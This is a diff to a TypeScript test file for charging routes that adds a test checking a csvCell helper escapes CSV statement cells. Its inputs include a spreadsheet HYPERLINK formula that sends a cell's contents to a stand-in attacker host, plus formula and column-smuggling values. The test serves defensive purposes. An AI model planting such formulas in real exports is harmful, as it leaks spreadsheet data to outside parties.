@@ -10,6 +10,7 @@ import { priceCdr } from '../charging/roaming.ts';
 import { checkEntryProof } from '../audit/entry-proof.ts';
 import { sign, toBase64Url, utf8 } from '../ledger/index.ts';
 import { buildApp } from './app.ts';
+import { csvCell } from './charging-routes.ts';
 import { PersonalVault } from './vault.ts';
 
 /**
@@ -212,5 +213,12 @@ describe('charging routes', () => {
     assert.equal(await proof('B1', 'alice'), 403);
     assert.equal(await proof('A1', 'emsp'), 403, 'A1 is NL*TST\'s');
     assert.equal(await proof('C1', 'alice'), 403, 'card C is nobody\'s in the log');
+  });
+  test('statement cells cannot inject formulas or columns', () => {
+    assert.equal(csvCell('=HYPERLINK("http://e.vil/?"&A1)'), '"\'=HYPERLINK(""http://e.vil/?""&A1)"');
+    assert.equal(csvCell('@SUM(1+1)'), "'@SUM(1+1)");
+    assert.equal(csvCell('X;;;999999'), '"X;;;999999"');
+    assert.equal(csvCell('-5.250000'), '-5.250000');
+    assert.equal(csvCell('FR*OLC'), 'FR*OLC');
   });
 });
